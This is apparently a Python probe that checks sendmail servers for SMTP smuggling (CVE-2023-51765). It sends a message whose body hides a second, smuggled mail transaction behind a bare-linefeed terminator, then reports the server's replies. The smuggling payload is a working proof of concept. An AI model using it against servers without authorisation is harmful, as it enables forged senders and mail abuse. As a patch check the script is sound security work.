"""SMTP smuggling probe (CVE-2023-51765): does a bare <LF>.<CR><LF> end a message?

Speaks to HOST:PORT in clear text, sends one message to a local recipient whose body hides a
second transaction behind "\n.\r\n", and prints every reply as JSON. A patched sendmail (8.18.1
or the backport) answers "421 4.5.0 Bare linefeed (LF) not allowed" and never starts the
smuggled transaction; a vulnerable one answers "250 ... Message accepted" and then
"250 ... Sender ok" for the smuggled MAIL FROM.
"""
import json
import socket
import sys

host, port, rcpt = sys.argv[1], int(sys.argv[2]), sys.argv[3]
sock = socket.create_connection((host, port), timeout=20)
stream = sock.makefile('rb')
replies = []


def reply():
    lines = []
    while True:
        line = stream.readline().decode('latin-1').rstrip('\r\n')
        if not line:
            break
        lines.append(line)
        if line[3:4] != '-':
            break
    replies.append(lines)
    return lines


def send(data):
    sock.sendall(data.encode('latin-1'))


reply()
for command in ('EHLO client.mailrelay.test', 'MAIL FROM:<client@client.mailrelay.test>', 'RCPT TO:<%s>' % rcpt, 'DATA'):
    send(command + '\r\n')
    reply()
send('Subject: smuggling probe\r\n\r\nfirst message\n.\r\n'
     'MAIL FROM:<smuggled@client.mailrelay.test>\r\nRCPT TO:<%s>\r\nDATA\r\n'
     'Subject: smuggled\r\n\r\nsecond message\r\n.\r\n' % rcpt)
for _ in range(4):
    try:
        if not reply():
            break
    except (socket.timeout, OSError):
        break
send('QUIT\r\n')
print(json.dumps(replies))
